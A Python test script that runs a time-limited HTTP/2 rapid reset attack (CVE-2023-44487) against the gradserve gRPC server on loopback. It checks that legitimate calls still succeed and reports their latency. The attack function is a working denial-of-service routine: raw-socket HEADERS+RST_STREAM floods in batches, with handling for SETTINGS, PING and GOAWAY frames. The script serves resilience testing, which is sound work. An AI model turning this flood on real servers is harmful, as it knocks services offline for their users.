#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487) against gradserve-server, on loopback, bounded in time.

One attacking connection opens a stream (HEADERS for Forward) and cancels it at once
(RST_STREAM), as fast as it can, while `gradserve bench` makes legitimate Backward calls on a
connection of its own. gRPC 1.51 (Debian 12) predates upstream's defence, so the server pays for
every stream; the goal is that the server survives and legitimate calls still succeed within
their 30 s deadline (at most 1% failing). Their latency is printed, not bounded by default: on a
2-core VM an attack of 6 s stalls some calls for up to ~23 s in about half of the runs, in every
build we have measured (the README's threat model lists rapid reset as not protected);
--p99_bound_ms sets a bound. Prints the figures; exits 1 when the goal is missed.

  /usr/bin/python3 tests/rapid_reset_probe.py --server build/server/gradserve-server \\
      --client build/client/gradserve --seconds 5

Needs python3-hpack (installed with python3-h2; Debian's, so run it with /usr/bin/python3).
"""
import argparse
import json
import re
import socket
import struct
import subprocess
import sys
import threading
import time

import hpack


def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + struct.pack('>BBI', kind, flags, stream) + payload


HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
END_HEADERS, ACK, CANCEL = 0x4, 0x1, 0x8


def attack(port, seconds, stats):
    """Sends HEADERS + RST_STREAM pairs on one connection (reconnecting if the server closes it).

    The frames are built once and sent in batches of 500 pairs (h2's per-stream bookkeeping would
    make the attacker, not the server, the bottleneck); the header block uses never-indexed
    literals, so it does not depend on HPACK state. Incoming SETTINGS and PINGs are acknowledged
    as a real client would.
    """
    block = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in [
        (':method', 'POST'), (':scheme', 'http'), (':path', '/gradserve.v1.GradientService/Forward'),
        (':authority', f'127.0.0.1:{port}'), ('content-type', 'application/grpc'), ('te', 'trailers')]])
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        sock = socket.create_connection(('127.0.0.1', port))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(SETTINGS, 0, 0))
        stream, pending = 1, b''
        try:
            while time.monotonic() < end:
                batch = []
                for _ in range(500):
                    batch.append(frame(HEADERS, END_HEADERS, stream, block))
                    batch.append(frame(RST_STREAM, 0, stream, struct.pack('>I', CANCEL)))
                    stream += 2
                sock.sendall(b''.join(batch))
                stats['pairs'] += 500
                sock.setblocking(False)
                try:
                    while True:
                        data = sock.recv(65536)
                        if not data:
                            raise ConnectionError('closed')
                        pending += data
                except BlockingIOError:
                    pass
                finally:
                    sock.setblocking(True)
                replies = []
                while len(pending) >= 9:
                    length = int.from_bytes(pending[:3], 'big')
                    if len(pending) < 9 + length:
                        break
                    kind, flags, payload = pending[3], pending[4], pending[9:9 + length]
                    pending = pending[9 + length:]
                    if kind == SETTINGS and not flags & ACK:
                        replies.append(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        replies.append(frame(PING, ACK, 0, payload))
                    elif kind == GOAWAY:
                        stats['goaways'] += 1
                        raise ConnectionError('GOAWAY')
                if replies:
                    sock.sendall(b''.join(replies))
        except (ConnectionError, OSError):
            stats['reconnects'] += 1
        finally:
            sock.close()


def bench(client, address, seconds):
    out = subprocess.run([client, f'--target={address}', '--format=json', '--timeout=30', 'bench', '--rpc=backward',
                          '--shape=1,10', '--concurrency=1', f'--duration={seconds}'],
                         capture_output=True, text=True, timeout=seconds + 60)
    # Exit 3 with a JSON report: some calls failed, which main() weighs; anything else is a crash.
    if out.returncode not in (0, 3) or not out.stdout.strip():
        raise RuntimeError(f'gradserve bench failed ({out.returncode}): {out.stdout} {out.stderr}')
    return json.loads(out.stdout)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument('--server', required=True)
    parser.add_argument('--client', required=True)
    parser.add_argument('--seconds', type=float, default=5)
    parser.add_argument('--server_arg', action='append', default=[], help='extra server flag (repeatable)')
    # p99 was 3-8 ms idle and 4-13 ms under this attack when no call stalled; a stall of 8-23 s
    # early in the bench leaves few calls, so their p99 is the stall: a bound on it fails about
    # half of the runs of any build on a 2-core VM. 0: report the latency without a bound.
    parser.add_argument('--p99_bound_ms', type=float, default=0)
    # One call in a few hundred can stall past the bench's 30 s deadline under the attack on a
    # loaded machine (seen once in CI: 1 of 233); more than 1% failing is the server going down.
    parser.add_argument('--max_failed_fraction', type=float, default=0.01)
    args = parser.parse_args()

    server = subprocess.Popen([args.server, '--listen=127.0.0.1:0'] + args.server_arg, stdout=subprocess.PIPE, text=True)
    try:
        # The server prints a line or two (its row kernel) before the one naming its port.
        seen, match = '', None
        for line in server.stdout:
            seen += line
            match = re.search(r'listening on (\S+):(\d+)', line)
            if match:
                break
        if not match:
            print(f'rapid_reset_probe: server did not start: {seen!r}')
            return 1
        address, port = f'{match.group(1)}:{match.group(2)}', int(match.group(2))
        threading.Thread(target=lambda: [None for _ in server.stdout], daemon=True).start()

        idle = bench(args.client, address, 2)
        stats = {'pairs': 0, 'reconnects': 0, 'goaways': 0}
        attacker = threading.Thread(target=attack, args=(port, args.seconds + 1, stats))
        attacker.start()
        time.sleep(0.5)  # the attack is at full speed before the measurement starts
        loaded = bench(args.client, address, args.seconds)
        attacker.join()
        alive = server.poll() is None

        rate = stats['pairs'] / (args.seconds + 1)
        print(f'idle:   {idle["requests"]} calls, {idle["errors"]} errors, p50 {idle["latency_ms"]["p50"]:.1f} ms, '
              f'p99 {idle["latency_ms"]["p99"]:.1f} ms, max {idle["latency_ms"]["max"]:.1f} ms')
        print(f'attack: {rate:,.0f} HEADERS+RST_STREAM pairs/s on one connection for {args.seconds + 1:g} s '
              f'({stats["reconnects"]} reconnects, {stats["goaways"]} GOAWAYs)')
        print(f'loaded: {loaded["requests"]} calls, {loaded["errors"]} errors, p50 {loaded["latency_ms"]["p50"]:.1f} ms, '
              f'p99 {loaded["latency_ms"]["p99"]:.1f} ms, max {loaded["latency_ms"]["max"]:.1f} ms '
              + (f'(bound {args.p99_bound_ms:g} ms)' if args.p99_bound_ms > 0 else '(no bound)'))
        failures = []
        if not alive:
            failures.append('the server died')
        if stats['pairs'] < 1000:
            failures.append(f'the attack did not run ({stats["pairs"]} pairs)')
        if loaded['requests'] == 0 or loaded['errors'] > args.max_failed_fraction * loaded['requests']:
            failures.append(f'legitimate calls failed: {loaded["errors"]} of {loaded["requests"]}')
        if args.p99_bound_ms > 0 and loaded['latency_ms']['p99'] > args.p99_bound_ms:
            failures.append(f'p99 {loaded["latency_ms"]["p99"]:.0f} ms over {args.p99_bound_ms:g} ms')
        print('rapid_reset_probe: ' + ('; '.join(failures) if failures else 'passed'))
        return 1 if failures else 0
    finally:
        server.terminate()
        try:
            server.wait(timeout=30)
        except subprocess.TimeoutExpired:
            server.kill()


if __name__ == '__main__':
    sys.exit(main())
